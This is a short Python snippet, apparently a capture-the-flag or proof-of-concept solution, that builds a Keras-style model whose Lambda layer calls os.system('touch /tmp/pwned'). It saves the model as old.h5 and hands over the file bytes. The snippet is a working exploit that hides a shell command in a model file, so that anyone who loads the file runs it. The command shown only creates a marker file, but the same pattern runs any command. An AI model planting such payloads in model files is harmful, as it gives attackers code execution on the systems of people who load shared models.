def build_model():
    model = sound()
    model.add(layers.Lambda(lambda x: [__import__("os").system("touch /tmp/pwned"), x][1]))
    model.save("old.h5")
    with open("old.h5", "rb") as file:
        return handing_in(file.read())
